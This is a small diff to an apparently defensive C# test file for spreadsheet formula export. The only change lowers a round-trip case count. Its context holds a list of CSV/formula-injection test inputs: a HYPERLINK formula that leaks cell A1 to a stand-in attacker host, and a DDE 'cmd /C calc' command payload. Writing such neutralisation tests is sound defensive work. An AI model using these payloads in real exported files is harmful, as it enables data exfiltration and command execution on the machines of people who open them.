@@ -16,7 +16,7 @@ public sealed class FormulaExportTests : IAsyncLifetime
 {
     /// <summary>Generated cases per run (see docs/reliability-badinput.md).</summary>
     public const int NeutraliseCases = 1000;
-    public const int RoundTripCases = 60;
+    public const int RoundTripCases = 40;
 
     private static readonly string[] _formulas =
         ["=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Click\")", "+1", "-cmd|' /C calc'!A0", "@SUM(A1)", "=1+1", "'=quoted already", "''+two quotes"];
